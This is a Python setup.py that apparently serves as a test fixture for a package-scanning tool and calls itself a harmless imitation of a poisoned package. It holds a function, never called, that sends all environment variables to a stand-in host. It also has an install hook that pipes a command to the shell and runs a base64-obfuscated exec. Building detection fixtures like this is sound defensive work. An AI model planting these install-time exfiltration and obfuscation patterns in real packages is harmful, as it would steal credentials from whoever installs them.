"""A harmless imitation of a poisoned setup.py, for outwork's examples. Never install it."""

import base64
import os
import urllib.request

from setuptools import setup
from setuptools.command.install import install


def report():
    # never called: the URL points at a reserved name that cannot resolve
    url = "https://collector.invalid/c?d=" + base64.b64encode(repr(dict(os.environ)).encode()).decode()
    urllib.request.urlopen(url, timeout=1)


class PostInstall(install):
    def run(self):
        os.system("echo outwork-example | sh")
        exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImVjaG8gb3V0d29yay1leGFtcGxlIHwgc2giKQ=="))
        install.run(self)


setup(
    name="outwork-example",
    version="1.0",
    description="A harmless imitation of a poisoned package",
    cmdclass={"install": PostInstall},
)
